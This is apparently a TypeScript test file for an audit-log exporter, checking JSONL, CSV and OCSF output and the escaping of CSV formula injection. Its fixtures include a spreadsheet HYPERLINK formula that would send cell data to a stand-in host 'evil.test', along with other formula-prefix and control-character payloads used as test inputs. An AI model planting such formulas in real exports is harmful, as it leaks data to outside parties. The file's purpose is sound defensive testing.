import { describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { FORMATS, type FormatName } from "../../../src/audit/export/formats.ts";
import type { FoundLine } from "../../../src/audit/query/filter.ts";
import { parseLine } from "../../../src/audit/query/view.ts";
import { viewOf } from "../../../src/core/audit-fields.ts";
import { entryLine, refusedLine } from "../../support/audit-lines.ts";

const LOG = "1f8ec3cf81b8e938deff7cd42790310a";

function foundOf(line: string): FoundLine {
  const entry = viewOf(parseLine(line) ?? {});
  if (entry === undefined) throw new Error("no entry");
  return { day: "2026-02-16", offset: 0, end: line.length + 1, line, entry, log: LOG };
}

const LINES = [
  entryLine("2026-02-16T10:00:00.000Z", {
    traceId: "0198d000-0000-7000-8000-000000000001",
    trace: { traceId: "4bf92f3577b34da6a3ce929d0e0e4736" },
    approval: { by: "alice", id: "a-1" },
    policyVersion: "d".repeat(64),
    decisionReasons: [
      { point: "risk", verdict: "requireApproval", reason: "floor:risk:high" },
      { point: "spending", verdict: "requireApproval", reason: "over 100" },
    ],
    tool: { name: "update_address", classification: "write", targetSystem: "customer-master-service" },
    response: { filteredFields: ["customer.email", "customer.phone"], outputHash: "b".repeat(64) },
  }),
  refusedLine("2026-02-16T11:00:00.000Z", ["INVALID_INPUT", "VALIDATION"], {
    traceId: "0198d000-0000-7000-8000-000000000002",
    caller: { sub: '=HYPERLINK("http://evil.test?"&A1,"x")', permissions: [] },
    request: { args: { note: 'say "hi", now\n+1' }, argsHash: "c".repeat(64), hashAlg: "sha256" },
  }),
  refusedLine("2026-02-16T12:00:00.000Z", ["UNAUTHENTICATED", "AUTH"], {
    traceId: "0198d000-0000-7000-8000-000000000003",
    caller: { sub: "anonymous", permissions: [] },
    tool: { name: "@SUM(1+1)", classification: "unknown", targetSystem: "unknown" },
    count: 40,
  }),
] as const;

test.each(["jsonl", "csv", "ocsf"] as const)("%s is unchanged", (name: FormatName) => {
  const format = FORMATS[name];
  const lines = [...("header" in format ? [format.header] : []), ...LINES.map((line) => format.line(foundOf(line)))];
  expect(`${lines.join("\n")}\n`).toBe(readFileSync(join(import.meta.dir, `golden/calls.${name}`), "utf8"));
});

describe("csv", () => {
  const cellOf = (sub: string): string => {
    const line = JSON.stringify({ timestamp: "2026-02-16T10:00:00.000Z", caller: { sub } });
    return /^"[^"]*",,((?:"(?:[^"]|"")*")?),/.exec(FORMATS.csv.line(foundOf(line)))?.[1] ?? "?";
  };

  test.each([
    ["=1+1", `"'=1+1"`],
    ["+1", `"'+1"`],
    ["-1", `"'-1"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    [" \t=1", `"' \\u0009=1"`],
    ["\t1", `"'\\u00091"`],
    ["\r\n=1", `"'\\u000d\\u000a=1"`],
    ["＝1", `"'＝1"`],
    ["agent-7", '"agent-7"'],
    ["a=b", '"a=b"'],
    ['a","=1', '"a"",""=1"'],
    ["\u202eevil", '"\\u202eevil"'],
    ["Größe", '"Größe"'],
  ])("%j is %s", (sub, cell) => {
    expect(cellOf(sub)).toBe(cell);
  });

  test("no text ends its cell or its row, or begins a formula", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 30 }), (sub) => {
        const cell = cellOf(sub);
        return /^"(?:[^"]|"")*"$/.test(cell) && !/[\r\n\t]/.test(cell) && !/^"\s*[=+\-@]/.test(cell);
      }),
    );
  });
});
